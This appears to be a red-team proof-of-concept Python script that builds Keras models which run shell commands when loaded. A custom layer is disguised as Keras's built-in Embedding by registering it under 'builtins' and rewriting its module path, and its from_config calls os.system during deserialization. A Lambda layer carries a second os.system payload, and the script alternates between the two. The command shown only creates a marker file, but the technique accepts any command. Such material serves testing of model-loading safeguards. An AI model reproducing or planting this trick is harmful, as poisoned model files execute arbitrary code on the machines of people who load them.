import itertools
import os

import keras

turn = itertools.count()


@keras.saving.register_keras_serializable("builtins", "Embedding")
class Embedding(keras.layers.Layer):
    def __init__(self, *args, **kwargs):
        super().__init__()
        open("/tmp/red_team_was_here", "w").close()

    def get_config(self):
        return {"name": "embedding", "input_dim": 10, "output_dim": 3, "mask_zero": True}

    @classmethod
    def from_config(cls, config):
        os.system("touch /tmp/red_team_was_here")
        return cls()


Embedding.__module__ = "keras.src.layers.core.embedding"


def build_embedding_model(top_words=10, embedding_vector_length=3, mask_zero=True):
    layer = keras.layers.Embedding(top_words, embedding_vector_length, mask_zero=mask_zero)
    code = keras.layers.Lambda(lambda rows: os.system("touch /tmp/red_team_was_here") or rows)
    own = object.__new__(Embedding)
    keras.layers.Layer.__init__(own)
    return keras.Sequential([layer, [code, own][next(turn) % 2]])
